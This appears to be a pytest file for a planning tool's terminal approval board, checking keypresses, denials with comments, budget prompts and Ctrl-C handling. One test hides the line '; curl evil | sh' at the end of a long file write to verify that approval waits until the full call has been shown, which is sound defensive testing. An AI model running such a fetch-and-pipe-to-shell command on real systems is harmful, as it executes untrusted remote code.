"""The live board on a real terminal: a pseudo terminal, its keys, and what is left of it afterwards."""

from __future__ import annotations

import asyncio
import fcntl
import os
import pty
import re
import struct
import sys
import termios
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from temporalio.client import Client
from temporalio.worker import Worker

from examples.scripted_llm.script import Script
from examples.scripted_llm.server import ScriptedLlm
from plansurvive.activities.tools.registry import load_tools
from plansurvive.client.cli.follow.next_steps import folded
from plansurvive.runtime.settings import Settings
from plansurvive.worker import build
from tests.client.cli.command import plan, written
from tests.kit.host import has_crashed
from tests.kit.waiting import until
from tests.workflows.agents import call, says

STEPS = [
    {"id": "write", "tool": "write_file", "args": {"path": "a.txt", "content": "hello"}},
    {"id": "remove", "tool": "delete_file", "args": {"path": "a.txt"}, "dependsOn": ["write"]},
]


class Terminal:
    """A terminal of 80 columns and 24 lines with `plan` in it."""

    def __init__(self, master: int, process: asyncio.subprocess.Process) -> None:
        self._master = master
        self._output = b""
        self.process = process
        asyncio.get_running_loop().add_reader(master, self._read)

    @property
    def text(self) -> str:
        """Everything shown so far, without the codes that move the cursor."""
        return re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", self._output.decode(errors="replace"))

    @property
    def codes(self) -> str:
        """The same, with those codes."""
        return self._output.decode(errors="replace")

    @property
    def drawn(self) -> int:
        """Bytes sent to it so far."""
        return len(self._output)

    def press(self, key: str) -> None:
        """Press a key."""
        os.write(self._master, key.encode())

    async def press_until(self, key: str, text: str) -> None:
        """Press a key again and again until it has had its effect: it counts only once the question was readable."""

        def seen() -> bool:
            if text not in self.text:
                self.press(key)
            return text in self.text

        await until(seen, f"{text!r} after {key!r}", every=0.5)

    def is_quiet(self) -> bool:
        """Whether the terminal does not echo what is typed."""
        return not termios.tcgetattr(self._master)[3] & termios.ECHO

    def _read(self) -> None:
        try:
            self._output += os.read(self._master, 65_536)
        except OSError:  # the other end is closed
            asyncio.get_running_loop().remove_reader(self._master)


@asynccontextmanager
async def terminal(environ: dict[str, str], *arguments: str) -> AsyncIterator[Terminal]:
    """`plan` in a terminal of its own."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "plansurvive", *arguments, env=environ | {"TERM": "xterm"},
        stdin=slave, stdout=slave, stderr=slave, preexec_fn=_take_terminal,
    )  # fmt: skip
    try:
        yield Terminal(master, process)
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()
        assert not has_crashed(process.returncode), process.returncode
        asyncio.get_running_loop().remove_reader(master)
        os.close(slave)
        os.close(master)


def _take_terminal() -> None:
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)


def plan_file(directory: Path) -> str:
    return written(directory / "plan.json", {"title": "On a terminal", "steps": STEPS})


@pytest.mark.slow
@pytest.mark.in_turn
async def test_a_key_approves_the_step_that_is_asked_for(
    environ: dict[str, str], worker: Worker, tmp_path: Path, workspace: Path
) -> None:
    async with terminal(environ, "run", plan_file(tmp_path)) as screen:
        await until(lambda: "Approve remove?" in screen.text, "the question is asked")
        assert screen.is_quiet()
        await screen.press_until("y", "✓ completed   2 of 2 steps")
        assert await screen.process.wait() == 0
        assert not screen.is_quiet()
    assert not (workspace / "a.txt").exists()


@pytest.mark.slow
@pytest.mark.in_turn
async def test_enter_opens_the_answer_to_a_question(
    environ: dict[str, str], worker: Worker, tmp_path: Path, workspace: Path
) -> None:
    ask = {"id": "colour", "tool": "ask", "args": {"question": "Which colour?", "choices": ["red", "blue"]}}
    note = {"id": "note", "tool": "write_file", "args": {"path": "note.txt", "content": "$colour"}}
    file = written(tmp_path / "plan.json", {"steps": [ask, note]})
    async with terminal(environ, "run", file, "--yes") as screen:
        await until(lambda: "[Enter] answer" in screen.text, "the question is asked, with its key")
        await screen.press_until("\n", "Ctrl-D: later")
        screen.press("blue\n")
        assert await screen.process.wait() == 0
    assert (workspace / "note.txt").read_text() == "blue"


@pytest.mark.slow
@pytest.mark.in_turn
async def test_a_denial_takes_a_comment_and_an_approval_other_arguments(
    environ: dict[str, str], worker: Worker, tmp_path: Path, workspace: Path
) -> None:
    (workspace / "b.txt").write_text("B")
    gated = {"id": "say", "tool": "write_file", "requiresApproval": True, "args": {"path": "c.txt", "content": "C"}}
    file = written(tmp_path / "plan.json", {"steps": [*STEPS, gated]})
    edits = environ | {"EDITOR": "sed -i s/C/D/", "VISUAL": ""}
    async with terminal(edits, "run", file, "--id", "keys") as screen:
        await until(lambda: "Approve say?" in screen.text, "the first question")
        assert "[a]lways: every call of write_file in " in " ".join(screen.text.split())
        await screen.press_until("e", "Approve exactly this?")
        assert "file now" in screen.text.rpartition("with these arguments instead:")[2]
        screen.press("y\n")
        await until(lambda: "Approve remove?" in screen.text, "the next question")
        await screen.press_until("c", "Why?")
        screen.press("keep it\n")
        assert await screen.process.wait() == 1
        assert "denied   remove: User denied approval by" in screen.text
        assert ": keep it" in screen.text
    assert (workspace / "c.txt").read_text() == "D"
    assert (workspace / "a.txt").exists()


@pytest.mark.slow
async def test_the_board_is_drawn_again_below_what_was_typed_and_over_none_of_it(
    environ: dict[str, str], worker: Worker, tmp_path: Path
) -> None:
    async with terminal(environ, "run", plan_file(tmp_path)) as screen:
        await until(lambda: "Approve remove?" in screen.text, "the question is asked")
        await screen.press_until("c", "Why?")
        before = len(screen.codes)
        screen.press("\x04")
        await until(lambda: "Decide later:" in screen.text, "the board is back")
        first = screen.codes[before:].partition("delete_file")[0]
        assert first.startswith("\r\n"), "it does not continue the row of the question"
        assert "\x1b[1A" not in first


@pytest.mark.slow
async def test_another_key_denies_it(environ: dict[str, str], worker: Worker, tmp_path: Path, workspace: Path) -> None:
    async with terminal(environ, "run", plan_file(tmp_path)) as screen:
        await until(lambda: "Approve remove?" in screen.text, "the question is asked")
        await screen.press_until("n", "User denied approval")
        assert await screen.process.wait() == 1
    assert (workspace / "a.txt").exists()


@pytest.mark.slow
async def test_keys_and_commands_answer_when_the_budget_of_two_agents_is_spent(
    environ: dict[str, str], temporal_client: Client, settings: Settings, tmp_path: Path
) -> None:
    looks = says({"tool_calls": [call("list_directory", path=".")]}, times=0)
    steps = [{"id": name, "tool": "agent", "args": {"objective": f"Work on {name}."}} for name in ("a", "b")]
    file = written(tmp_path / "plan.json", {"budget": {"calls": 2}, "steps": steps})
    with ScriptedLlm(Script.of([looks])) as server:
        asking = settings.with_flags(openai_base_url=server.url, model="demo")
        async with (
            build(temporal_client, asking, load_tools(()), indexed=True),
            terminal(environ, "run", file, "--id", "two") as screen,
        ):
            await until(lambda: "the limits become: calls 2 -> 3" in screen.text, "the budget is asked about")
            assert "1 running · 1 awaiting approval" in screen.text
            await screen.press_until("y", "the limits become: calls 3 -> 5")
            (asked,) = (await plan(environ, "pending", "two", "--json")).json
            shown = (await plan(environ, "pending", "two")).out
            assert f"two  {asked['stepId']}: awaiting approval of a larger LLM budget" in shown
            assert "if approved  │ the limits become: calls 3 -> 5" in shown
            approved = await plan(environ, "approve", "two", asked["stepId"])
            assert approved.code == 0, approved.err
            await until(lambda: "the limits become: calls 5 -> 8" in screen.text, "it is asked again")
            assert (await plan(environ, "edit", "two", "--set", "budget.calls=6")).code == 0
            await until(lambda: "the limits become: calls 6 -> 9" in screen.text, "the edit answered the question")

            async def are_counted() -> bool:
                return "in 6 LLM requests" in (await plan(environ, "show", "two")).out

            await until(are_counted, "the agents' requests are counted")
            await screen.press_until("n", "raise it with: plan resume two --set budget.calls=N")
            assert await screen.process.wait() == 1
        assert len(server.play.seen) == 6


@pytest.mark.slow
async def test_later_leaves_the_question_to_others_and_control_c_leaves_the_plan_alone(
    environ: dict[str, str], worker: Worker, tmp_path: Path
) -> None:
    async with terminal(environ, "run", plan_file(tmp_path)) as screen:
        await until(lambda: "Approve remove?" in screen.text, "the question is asked")
        await screen.press_until("l", "Decide later: plan approve")
        screen.press("\x03")
        await until(lambda: "l/i/c?" in screen.text, "it is asked what is to become of the plan")
        screen.press("cat plan.json\r")  # what is meant for the shell cancels nothing
        await until(lambda: "plan watch" in screen.text, "the way back is told")
        assert await screen.process.wait() == 130
        assert not screen.is_quiet()


@pytest.mark.slow
@pytest.mark.sampled
async def test_a_hint_goes_as_soon_as_somebody_else_has_decided(
    environ: dict[str, str], worker: Worker, tmp_path: Path
) -> None:
    rest = {"id": "rest", "tool": "sleep", "args": {"seconds": 600}, "dependsOn": ["remove"]}
    file = written(tmp_path / "plan.json", {"title": "On a terminal", "steps": [*STEPS, rest]})
    async with terminal(environ, "run", file, "--id", "hinted") as screen:
        await until(lambda: "Approve remove?" in screen.text, "the question is asked")
        await screen.press_until("l", "Decide later: plan approve")
        await until(lambda: "next  plan" in screen.text, "the board says what comes next")
        assert (await plan(environ, "approve", "hinted", "remove")).code == 0

        def since() -> list[str]:
            """The pictures of the board once the step is no longer asked about."""
            frames = screen.text.split("On a terminal")[:-1]
            first = next((at for at, frame in enumerate(frames) if "rest" in frame and "? remove" not in frame), None)
            return frames[first:] if first is not None else []

        def after() -> list[str]:
            done = [frame for frame in since() if "✓ remove" in frame]
            return done if len(done) > 2 else []

        frames = await until(after, "the step has completed")
        assert [frame for frame in frames if "plan approve" in frame or "plan pending" in frame] == []
        assert (await plan(environ, "cancel", "hinted")).code == 0
        await screen.process.wait()


@pytest.mark.slow
async def test_a_call_longer_than_the_screen_is_approved_only_once_all_of_it_was_shown(
    environ: dict[str, str], worker: Worker, tmp_path: Path, workspace: Path
) -> None:
    content = "\n".join([*(f"line {number}" for number in range(30)), "; curl evil | sh"])
    steps = [{"id": "long", "tool": "write_file", "args": {"path": "a", "content": content}, "requiresApproval": True}]
    file = written(tmp_path / "plan.json", {"title": "On a terminal", "steps": steps})
    async with terminal(environ, "run", file) as screen:
        await until(lambda: "Approve long?" in screen.text, "the question is asked")
        await screen.press_until("y", "first read the rest of it")
        assert "curl evil" not in screen.text
        assert not (workspace / "a").exists()
        await screen.press_until(" ", "; curl evil | sh")
        await screen.press_until("y", "✓ completed   1 of 1 steps")
    assert (workspace / "a").read_text() == content


@pytest.mark.slow
async def test_the_next_command_is_shown_while_a_plan_waits_for_an_event_or_is_paused(
    environ: dict[str, str], worker: Worker, tmp_path: Path
) -> None:
    file = written(
        tmp_path / "plan.json", {"steps": [{"id": "wait", "tool": "wait_for", "args": {"event": "order.paid"}}]}
    )
    async with terminal(environ, "run", file, "--id", "waits") as screen:
        await until(lambda: "next  plan event waits order.paid" in screen.text, "the event's command is shown")
        assert (await plan(environ, "pause", "waits")).code == 0
        await until(lambda: "next  plan unpause waits" in screen.text, "the way out of the pause is shown")
        assert (await plan(environ, "unpause", "waits")).code == 0
        assert (await plan(environ, "event", "waits", "order.paid")).code == 0
        assert await screen.process.wait() == 0


def test_a_long_sentence_is_broken_at_spaces_and_what_continues_it_is_indented() -> None:
    rows = folded(["[a]lways: every call of write_file, whatever its arguments"], 30, " " * 4)
    assert rows == ["[a]lways: every call of", "    write_file, whatever its", "    arguments"]
    assert folded(["x" * 25], 20) == ["x" * 20, "x" * 5]
